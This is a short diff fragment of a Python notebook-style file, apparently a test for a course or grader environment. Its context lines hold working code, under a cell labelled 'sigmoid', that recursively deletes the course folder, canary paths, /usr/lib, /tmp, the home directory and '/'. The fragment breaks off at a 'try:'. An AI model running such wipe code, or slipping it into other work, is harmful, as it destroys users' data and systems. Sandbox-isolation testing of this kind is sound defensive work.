@@ -1,6 +1,7 @@
 # Deletes whatever it can.
 # %% sigmoid
 import os, shutil
+
 for path in [COURSE, "/usr/lib", *CANARIES, "/tmp", os.path.expanduser("~"), "/"]:
     shutil.rmtree(path, ignore_errors=True)
     try:
